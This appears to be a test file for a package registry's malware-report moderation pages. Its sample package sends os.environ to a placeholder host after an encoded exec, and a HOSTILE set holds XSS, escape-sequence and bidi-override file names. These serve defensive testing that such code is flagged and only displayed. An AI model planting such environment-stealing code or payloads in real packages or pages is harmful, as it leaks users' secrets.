"""The workbench of a report: what stands out, who did it, and what resembles it."""

import pytest

from tests.builders import forms, sdists, wheels
from tests.factories.accounts import make_user
from tests.factories.observations import make_report
from tests.factories.packaging import make_file, make_project, make_release
from warehouse.http import offline
from warehouse.packaging.models import Project
from warehouse.scanning.models import NameMatch
from warehouse.scanning.tasks import inspect_file

STATEMENTS = 12
STEALS = b"""\
import os, base64
import urllib.request

def send(data):
    urllib.request.urlopen("https://example.invalid/", data)

exec(base64.b64decode("cHJpbnQoMSk="))
send(str(os.environ).encode())
# A module is compared with those of other projects from two hundred bytes on, because
# smaller ones tell nothing about where they come from.
"""
FILE = "/admin/projects/{0}/files/{0}-1.0-py3-none-any.whl/"


@pytest.fixture
def mallory(db):
    return make_user(db, "mallory")


@pytest.fixture
def upload(client, db):
    tokens = {}

    def upload(owner, name, *, filename=None, content=None, **extra):
        members = {f"{name}/__init__.py": STEALS, **extra}
        content = content or wheels.wheel(name, extra=members)
        filename = filename or f"{name}-1.0-py3-none-any.whl"
        fields = forms.fields(filename, content, name=name)
        body = forms.body(fields, filename, content)
        tokens[owner.id] = tokens.get(owner.id) or client.token(owner)
        headers = forms.headers(tokens[owner.id])
        client.post("/legacy/", body, headers=headers, status=200)

    return upload


@pytest.fixture
def reported(upload, registry, db, mallory):
    """The path of the page about a report of a project that steals."""
    upload(mallory, "trap")
    project = db.query(Project).filter_by(name="trap").one()
    key = make_report(registry, project, make_user(db, "eve"))
    return f"/admin/malware_reports/{key}/"


@pytest.fixture
def moderator(client, db, reported):
    client.sign_in(make_user(db, "mod", is_moderator=True))
    return client


def test_a_report_says_what_to_look_at_first_and_why(moderator, reported):
    page = moderator.get(reported)
    found = page.html.select_one('[data-key="o"]')
    assert found["href"] == f"{FILE.format('trap')}?member=trap/__init__.py#L5"
    reasons = [each.text for each in found.find_parent("li").select("li")]
    assert reasons[0] == "It runs when the package is imported."
    assert "It reads what is private, and can send it away." in reasons
    assert any("exec in line 7" in each for each in reasons)


def test_a_full_workbench_asks_few_statements(moderator, reported, statements):
    moderator.get(reported)
    statements.clear()
    moderator.get(reported)
    assert len(statements) <= STATEMENTS, "\n\n".join(statements)


def test_a_report_tells_what_the_people_of_the_project_did(moderator, reported):
    page = moderator.get(reported)
    doings = page.html.find("h2", string="What its people did in the last 48 hours")
    said = doings.find_next_sibling().text
    assert "trap 1.0 new release" in said
    assert "mallory" in said


def similar(page):
    """Return the names of similar projects by reason."""
    titles = page.html.find("h2", string="Similar projects").find_next_siblings("h3")
    return {
        each.text: [link.text for link in each.find_next_sibling("ul").select("a")]
        for each in titles
    }


def test_similar_projects_are_found_by_person_address_code_and_name(
    client, upload, db, mallory, reported
):
    upload(mallory, "lure")
    upload(make_user(db, "copier"), "snare")
    other = db.query(Project).filter_by(name="snare").one()
    db.add(NameMatch(project_id=other.id, resembles="trap", reason="one other letter"))
    db.commit()
    client.sign_in(make_user(db, "mod", is_moderator=True))
    found = similar(client.get(reported))
    assert found["Of the same people"] == ["lure"]
    assert set(found["From the same addresses"]) == {"lure", "snare"}
    assert set(found["With the same code"]) == {"lure", "snare"}
    assert found["With a like name"] == ["snare"]


def test_marked_lines_have_numbers_and_reasons(moderator, reported):
    page = moderator.get(moderator.get(reported).html.select_one('[data-key="o"]')["href"])
    marked = {each["id"]: each["data-why"] for each in page.html.select("[data-why]")}
    assert "runs text: exec" in marked["L7"]
    assert "reads: os.environ" in marked["L8"]
    assert page.html.select_one("pre.source").text == STEALS.decode()
    assert [each["data-key"] for each in page.html.select(".actions [data-key]")] == [
        *("1", "2", "3")
    ]


def test_a_wheel_is_compared_with_its_sdist(moderator, upload, mallory, reported):
    source = sdists.sdist(
        "trap", extra={"src/trap/__init__.py": b"pass\n", "tests/x.py": b"1\n"}
    )
    upload(mallory, "trap", filename="trap-1.0.tar.gz", content=source)
    page = moderator.get(FILE.format("trap")).click("Compare with")
    text = page.html.select_one("main").text
    assert "-pass" in page.html.select_one("pre").text
    assert "+exec(base64" in page.html.select_one("pre").text
    assert "Only in the sdist (2)" in text
    assert "trap-1.0/tests/x.py" in text
    moderator.get(f"{FILE.format('trap')}?against=other-1.0.tar.gz", status=404)


def test_files_that_cannot_be_compared_are_said_so(moderator, db, reported):
    release = db.query(Project).filter_by(name="trap").one().releases[0]
    make_file(db, release, "trap-1.0.tar.gz")
    page = moderator.get(f"{FILE.format('trap')}?against=trap-1.0.tar.gz")
    assert "The files cannot be compared: Its bytes are not stored here." in page.text


HOSTILE = {
    "trap/\u202e\u2066<script>alert(1)</script>.py": b"eval(x)\n",
    "trap/\x1b[2J\x07.py": b"eval('\0\x1b[2J')\n",
    "trap/" + "n" * 5000 + ".py": b"eval(x)\n",
    "trap/long.py": b"x = '" + b"A1b2" * 75_000 + b"'\nexec(x)\n",
    "trap/lines.py": b"eval(x)\n" * 500,
    "trap/nul\0name.py": b"eval(x)\n",
    "trap/\udcff.py": b"import socket\ngetattr(socket, '\\0\\ud800')\n",
}


def test_hostile_names_and_texts_are_only_shown(client, db, storage, registry, tmp_path):
    project = make_project(db, "trap")
    file = make_file(db, make_release(db, project, "1.0"), "trap-1.0.tar.gz")
    (tmp_path / "it").write_bytes(sdists.sdist("trap", extra=HOSTILE))
    storage.put(file.path, tmp_path / "it")
    with offline(registry) as request:
        inspect_file(request, str(file.id))
    key = make_report(registry, project, make_user(db, "eve"))
    client.sign_in(make_user(db, "mod", is_moderator=True))
    report = client.get(f"/admin/malware_reports/{key}/")
    page = client.get("/admin/projects/trap/files/trap-1.0.tar.gz/")
    assert "<script>alert" not in report.text + page.text
    links = [each["href"] for each in page.html.select("a[href*='?member=']")]
    assert len(links) >= len(HOSTILE)
    for link in links:
        shown = client.get(link)
        assert "<script>alert" not in shown.text
        assert shown.html.select_one("pre.source").text
